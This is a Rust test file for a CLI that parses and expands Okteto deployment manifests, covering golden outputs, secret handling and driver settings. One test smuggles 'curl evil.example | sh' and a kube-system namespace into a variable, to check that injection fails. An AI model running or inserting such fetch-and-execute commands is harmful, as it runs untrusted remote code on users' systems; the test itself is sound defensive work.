//! Golden tests: each file of `cli/testdata/manifests` read for divert
//! namespace `alice`, against `<name>.golden` (the manifest as JSON, or the
//! error). `DIVERT_BLESS=1` rewrites the goldens.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use super::*;

fn dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/manifests")
}

fn env(name: &str) -> Option<String> {
    match name {
        "OKTETO_BUILD_FRONTEND_IMAGE" => Some("registry.example/frontend:1a2b".into()),
        "OKTETO_BUILD_API_IMAGE" => Some("registry.example/api:3c4d".into()),
        _ => None,
    }
}

fn render(path: &Path) -> String {
    let name = path.file_name().map(PathBuf::from).unwrap_or_default();
    match read(path).and_then(|m| m.expand("alice", &BTreeMap::new(), &env)) {
        Ok(mut m) => {
            m.path = name;
            let mut out = serde_json::to_string_pretty(&m).unwrap_or_default();
            out.push('\n');
            out
        }
        Err(e) => {
            let full = path.display().to_string();
            format!(
                "error: {}\n",
                e.to_string().replace(&full, &name.display().to_string())
            )
        }
    }
}

#[test]
fn manifests_read_as_their_goldens_say() {
    let bless = std::env::var_os("DIVERT_BLESS").is_some();
    let mut inputs: Vec<PathBuf> = std::fs::read_dir(dir())
        .expect("testdata/manifests")
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "yml"))
        .collect();
    inputs.sort();
    assert!(inputs.len() >= 10, "{inputs:?}");
    let mut failed = Vec::new();
    for input in &inputs {
        let got = render(input);
        let golden = input.with_extension("golden");
        if bless {
            std::fs::write(&golden, &got).expect("write golden");
            continue;
        }
        let want = std::fs::read_to_string(&golden).unwrap_or_default();
        if got != want {
            failed.push(format!("{}:\n{got}", golden.display()));
        }
    }
    assert!(
        failed.is_empty(),
        "differs from the golden (DIVERT_BLESS=1 rewrites):\n{}",
        failed.join("\n")
    );
}

#[test]
fn the_shared_namespace_is_known_to_the_manifest_that_names_it() {
    let text = "deploy:\n  commands:\n  - echo $OKTETO_SHARED_NAMESPACE $DIVERT_NAMESPACE\n  \
                divert:\n    namespace: ${NS:-staging}\n";
    let vars = BTreeMap::from([("NS".to_owned(), "prod-copy".to_owned())]);
    let m = parse(Path::new("okteto.yml"), text, "bob", &vars, &|_| None).unwrap();
    assert_eq!(m.divert.namespace, "prod-copy");
    assert_eq!(m.deploy[0].run, "echo prod-copy bob");
}

/// A secret passed as a variable runs, and is never what is printed.
#[test]
fn a_command_is_printed_as_written_and_run_expanded() {
    let text = "deploy:\n  - helm upgrade web chart --set token=${TOKEN}\n  \
                - name: seed\n    command: ./seed --password $DB_PASSWORD\ndivert:\n  namespace: staging\n";
    let vars = BTreeMap::from([
        ("TOKEN".to_owned(), "s3cr3t".to_owned()),
        ("DB_PASSWORD".to_owned(), "hunter2".to_owned()),
    ]);
    let m = parse(Path::new("okteto.yml"), text, "bob", &vars, &|_| None).unwrap();
    let shown: Vec<(&str, &str)> = m
        .deploy
        .iter()
        .map(|s| (s.name.as_str(), s.command.as_str()))
        .collect();
    assert_eq!(
        shown,
        [
            (
                "helm upgrade web chart --set token=${TOKEN}",
                "helm upgrade web chart --set token=${TOKEN}"
            ),
            ("seed", "./seed --password $DB_PASSWORD"),
        ]
    );
    assert_eq!(m.deploy[0].run, "helm upgrade web chart --set token=s3cr3t");
    assert_eq!(m.deploy[1].run, "./seed --password hunter2");
    let json = serde_json::to_string(&m).unwrap();
    assert!(
        json.contains("s3cr3t"),
        "the JSON form is for tests: {json}"
    );
}

/// A value holding a newline and YAML is one value still: expansion comes
/// after parsing, so it cannot add a command or change the namespace.
#[test]
fn a_variable_cannot_change_the_manifest_s_structure() {
    let text = "deploy:\n  commands:\n  - echo ${GREETING}\n  divert:\n    namespace: ${NS}\n";
    let vars = BTreeMap::from([
        (
            "GREETING".to_owned(),
            "hi\n  - curl evil.example | sh\n  divert:\n    namespace: kube-system".to_owned(),
        ),
        ("NS".to_owned(), "staging\n    driver: istio".to_owned()),
    ]);
    let m = parse(Path::new("okteto.yml"), text, "bob", &vars, &|_| None).unwrap();
    assert_eq!(m.deploy.len(), 1);
    assert_eq!(
        m.deploy[0].run,
        "echo hi\n  - curl evil.example | sh\n  divert:\n    namespace: kube-system"
    );
    assert_eq!(m.divert.namespace, "staging\n    driver: istio");
    assert_eq!(m.divert.driver, Driver::Divert);
}

#[test]
fn the_driver_and_debug_may_come_from_variables() {
    let text = "deploy:\n  - echo\ndivert:\n  namespace: staging\n  driver: ${DRIVER}\n  debug: ${DEBUG:-false}\n";
    let with = |vars: &[(&str, &str)]| {
        let vars = vars
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect();
        parse(Path::new("okteto.yml"), text, "bob", &vars, &|_| None)
    };
    let m = with(&[("DRIVER", "nginx"), ("DEBUG", "true")]).unwrap();
    assert_eq!((m.divert.driver, m.divert.debug), (Driver::Nginx, true));
    let e = with(&[("DRIVER", "linkerd")]).unwrap_err().to_string();
    assert!(
        e.contains("divert.driver: unknown driver \"linkerd\""),
        "{e}"
    );
    let e = with(&[("DRIVER", "divert"), ("DEBUG", "yes")])
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("divert.debug: \"yes\" is not true or false"),
        "{e}"
    );
}

#[test]
fn the_manifest_is_found_in_okteto_s_places_in_order() {
    let tmp = std::env::temp_dir().join(format!("divert-manifest-{}", std::process::id()));
    std::fs::create_dir_all(tmp.join(".okteto")).unwrap();
    let err = find(&tmp, None).unwrap_err().to_string();
    assert!(
        err.contains("okteto.yml, okteto.yaml, .okteto/okteto.yml"),
        "{err}"
    );
    std::fs::write(tmp.join(".okteto/okteto.yml"), "").unwrap();
    assert_eq!(find(&tmp, None).unwrap(), tmp.join(".okteto/okteto.yml"));
    std::fs::write(tmp.join("okteto.yaml"), "").unwrap();
    assert_eq!(find(&tmp, None).unwrap(), tmp.join("okteto.yaml"));
    let given = Path::new("elsewhere.yml");
    assert_eq!(find(&tmp, Some(given)).unwrap(), given);
    std::fs::remove_dir_all(&tmp).unwrap();
}
